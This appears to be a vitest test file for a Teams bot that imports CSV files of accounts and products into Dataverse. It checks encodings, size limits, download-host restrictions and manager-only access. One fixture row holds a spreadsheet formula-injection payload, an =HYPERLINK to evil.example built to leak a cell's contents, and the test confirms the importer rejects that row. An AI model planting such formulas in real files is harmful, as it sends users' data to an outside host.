import type { Attachment } from 'botbuilder';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { TEAMS_FILE_DOWNLOAD } from '../../../bot/attachments/csv-attachment.js';
import { button, buttonsOf, cardOf, cardText } from '../../support/bot-harness.js';
import { ADA, BEN } from '../teams-activity.js';
import { answeredText, startMatchHarness, type MatchHarness } from './support/match-harness.js';
import { startFileServer } from './support/file-server.js';
import { MATCH_ENV, resetWorld } from './support/world.js';

let h: MatchHarness;
let files: Awaited<ReturnType<typeof startFileServer>>;
const UNICODE = 'name;address1_city\nZoë Café;Málaga\nŁódź Ltd;Łódź\n';
const GOOD =
  'name,emailaddress1,address1_city\nRelecloud,info@relecloud.com,Redmond\nSchool of Fine Art,,Miami\n';
beforeAll(async () => {
  h = await startMatchHarness(MATCH_ENV);
  files = await startFileServer({
    '/good.csv': { body: GOOD },
    '/big.csv': { body: Buffer.alloc(5 * 1024 * 1024 + 1, 'a') },
    '/forbidden.csv': { body: 'no', status: 403 },
    // Excel's plain "CSV" on a Western Windows: Windows-1252, "Zoë Café" as single bytes 0xEB, 0xE9.
    '/cp1252.csv': { body: Buffer.from('name,address1_city\nZo\xeb Caf\xe9,M\xe1laga\n', 'latin1') },
    '/utf16le.csv': { body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(UNICODE, 'utf16le')]) },
    '/utf16be.csv': {
      body: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(UNICODE, 'utf16le').swap16()]),
    },
    '/utf8bom.csv': { body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(UNICODE)]) },
  });
});
afterAll(async () => {
  await files.close();
  await h.close();
});
beforeEach(() => resetWorld(h));

const csv = (content: string, name = 'accounts.csv'): Attachment => ({
  contentType: 'text/csv',
  name,
  content,
});
const teamsFile = (downloadUrl: string, name = 'accounts.csv', fileType = 'csv'): Attachment => ({
  contentType: TEAMS_FILE_DOWNLOAD,
  name,
  contentUrl: 'https://contoso.sharepoint.com/personal/ada/Documents/accounts.csv',
  content: { downloadUrl, uniqueId: '1', fileType },
});
/** Teams sends the typed message as an extra text/html attachment. */
const html: Attachment = { contentType: 'text/html', content: '<p>import accounts</p>' };

const accounts = async () =>
  (await h.db.db.collection('dv.account').find({}).toArray()).map((d) => d.fields as Record<string, unknown>);
const answer = async (text: string, attachments: Attachment[], user = ADA) => {
  const sent = await h.sayWith(text, attachments, user);
  return { card: cardOf(sent[0]), text: sent.map((a) => a.text ?? cardText(cardOf(a))).join('\n') };
};

describe('import accounts / products with a CSV attachment', () => {
  it('inserts the rows of an inline CSV and offers a match run that proposes them', async () => {
    const before = (await accounts()).length;
    const { card, text } = await answer('import accounts', [html, csv(GOOD)]);
    expect(text).toMatch(/^Import of accounts\naccounts\.csv\n2 rows inserted, 0 rejected\./);
    const added = (await accounts()).slice(before);
    expect(added.map((a) => [a.name, a.customertypecode, a.statecode])).toEqual([
      ['Relecloud', 3, 0],
      ['School of Fine Art', 3, 0],
    ]);
    expect(buttonsOf(card).map((b) => b.title)).toEqual(['Match CUSTOMER']);
    const run = await h.invoke(
      button(card, 'Match CUSTOMER').verb,
      button(card, 'Match CUSTOMER').data,
      ADA,
      'report-1',
    );
    expect(answeredText(run)).toMatch(/Proposed: 4/);
    expect(answeredText(run)).toMatch(
      /30000 School of Fine Art: false\nSchool of Fine Art\nPriority 0: Name = School of Fine Art/,
    );
    expect(answeredText(run)).toMatch(/50000 Relecloud: false\nRelecloud\nPriority 0: Name = Relecloud/);
  });

  it('reports bad rows with their line numbers, refuses formulas, and inserts the good rows', async () => {
    const before = (await accounts()).length;
    const file = [
      'Name,E-Mail,City',
      'Good One,good@one.com,Oslo',
      '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",,Paris',
      'Bad Mail,bob@,Rome',
      ',nobody@x.com,Bern',
      '"Good, Two",,"Lisbon"',
    ].join('\r\n');
    const { text } = await answer('import accounts', [csv(file)]);
    expect(text).toMatch(/2 rows inserted, 3 rejected\./);
    expect(text).toMatch(
      /Line 3: name starts with = \+ - @ or a tab, which a spreadsheet would run as a formula/,
    );
    expect(text).toMatch(/Line 4: emailaddress1 is not an e-mail address\./);
    expect(text).toMatch(/Line 5: name is required\./);
    expect((await accounts()).slice(before).map((a) => a.name)).toEqual(['Good One', 'Good, Two']);
  });

  it('imports vendor accounts and products with the type given after "as"', async () => {
    const vendors = await answer('import accounts as vendors', [csv('name\nNorthwind Traders\n')]);
    expect(vendors.text).toMatch(/1 row inserted, 0 rejected/);
    expect(buttonsOf(vendors.card).map((b) => b.title)).toEqual(['Match VENDOR']);
    expect((await accounts()).find((a) => a.name === 'Northwind Traders')).toMatchObject({
      customertypecode: 11,
    });
    const services = await answer('import products as services', [
      csv('name,productnumber\nInstallation,SRV-01\n', 'p.csv'),
    ]);
    expect(services.text).toMatch(/^Import of products\np\.csv\n1 row inserted/);
    const product = await h.db.db.collection('dv.product').findOne({ 'fields.productnumber': 'SRV-01' });
    expect(product?.fields).toMatchObject({ producttypecode: 3 });
    expect((await answer('import accounts as planets', [csv('name\nX\n')])).text).toMatch(
      /The type must be Customer or Vendor\. Nothing was imported\./,
    );
  });

  it('downloads a Teams file attachment from its download link', async () => {
    const { text } = await answer('import accounts', [html, teamsFile(files.url('/good.csv'))]);
    expect(text).toMatch(/2 rows inserted, 0 rejected/);
  });

  it('reads an inline attachment given as a data: URL', async () => {
    const url = `data:text/csv;base64,${Buffer.from(GOOD).toString('base64')}`;
    const { text } = await answer('import accounts', [
      { contentType: 'text/csv', name: 'a.csv', contentUrl: url },
    ]);
    expect(text).toMatch(/2 rows inserted, 0 rejected/);
  });

  it.each([
    ['no attachment', [html], /Attach the CSV file to the message/],
    [
      'a picture',
      [{ contentType: 'image/png', name: 'photo.png', contentUrl: 'https://x.example/p.png' }],
      /"photo\.png" is not a CSV file\. Save it as "CSV UTF-8/,
    ],
    [
      'a workbook from Teams',
      [teamsFile('https://contoso.sharepoint.com/x', 'accounts.xlsx', 'xlsx')],
      /"accounts\.xlsx" is not a CSV file/,
    ],
    [
      'a workbook renamed to .csv',
      [csv('PK\u0003\u0004\u0000\u0000binary')],
      /not CSV text \(it looks like a binary file/,
    ],
    ['two CSV files', [csv(GOOD), csv(GOOD, 'b.csv')], /Attach one CSV file at a time/],
    [
      'a file without a header',
      [csv('Relecloud,info@relecloud.com\n')],
      /The first line must be a header naming the columns/,
    ],
    ['an empty file', [csv('')], /The file is empty/],
    [
      'an inline file over 5 MB',
      [csv(`name\n${'a'.repeat(5 * 1024 * 1024)}`)],
      /larger than 5\.0 MB, the most I import at once/,
    ],
    ['a Teams file over 5 MB', [teamsFile('/big.csv')], /larger than 5\.0 MB/],
    [
      'a link that is not https',
      [teamsFile('http://files.example.com/a.csv')],
      /I only download attachments over https/,
    ],
    ['a link that refuses', [teamsFile('/forbidden.csv')], /I could not download the file \(HTTP 403\)/],
  ])('%s: refused with a clear message and nothing is inserted', async (_what, attachments, message) => {
    const before = (await accounts()).length;
    const resolved = attachments.map((a) =>
      a.contentType === TEAMS_FILE_DOWNLOAD &&
      (a.content as { downloadUrl: string }).downloadUrl.startsWith('/')
        ? teamsFile(files.url((a.content as { downloadUrl: string }).downloadUrl))
        : a,
    );
    const { text } = await answer('import accounts', resolved);
    expect(text).toMatch(message);
    expect(text).toMatch(/Nothing was imported\./);
    expect((await accounts()).length).toBe(before);
  });

  it.each([
    ['UTF-16 LE with its BOM (Excel "Unicode Text")', '/utf16le.csv'],
    ['UTF-16 BE with its BOM', '/utf16be.csv'],
    ['UTF-8 with a BOM (Excel "CSV UTF-8")', '/utf8bom.csv'],
  ])('imports a file in %s with its accents intact', async (_what, path) => {
    const before = (await accounts()).length;
    const { text } = await answer('import accounts', [html, teamsFile(files.url(path))]);
    expect(text).toMatch(/2 rows inserted, 0 rejected/);
    expect((await accounts()).slice(before).map((a) => [a.name, a.address1_city])).toEqual([
      ['Zoë Café', 'Málaga'],
      ['Łódź Ltd', 'Łódź'],
    ]);
  });

  it('refuses a file in a Windows code page, saying to save it as CSV UTF-8, and inserts nothing', async () => {
    const before = (await accounts()).length;
    const { text } = await answer('import accounts', [html, teamsFile(files.url('/cp1252.csv'))]);
    expect(text).toMatch(/This file is not in UTF-8 .*Save it as "CSV UTF-8 \(Comma delimited\)"/);
    expect(text).toMatch(/Nothing was imported\./);
    expect((await accounts()).length).toBe(before);
  });

  it('never downloads a Teams file whose link is not on SharePoint or OneDrive', async () => {
    files.hits.splice(0);
    const connections = files.connections();
    const elsewhere = files.url('/good.csv').replace('http://', 'https://');
    const { text } = await answer('import accounts', [html, teamsFile(elsewhere)]);
    expect(text).toMatch(/I only download attachments from where Teams stores them/);
    expect(text).not.toContain('127.0.0.1');
    expect(files.connections()).toBe(connections);
    expect(files.hits).toEqual([]);
  });

  it('only managers import; others are told so before anything is downloaded', async () => {
    files.hits.splice(0);
    const { text } = await answer('import accounts', [teamsFile(files.url('/good.csv'))], BEN);
    expect(text).toMatch(/Only managers can import rows into Dataverse/);
    expect(files.hits).toEqual([]);
  });

  it('imports accounts or products only', async () => {
    expect((await answer('import contacts', [csv(GOOD)])).text).toMatch(/I can import accounts or products/);
  });
});
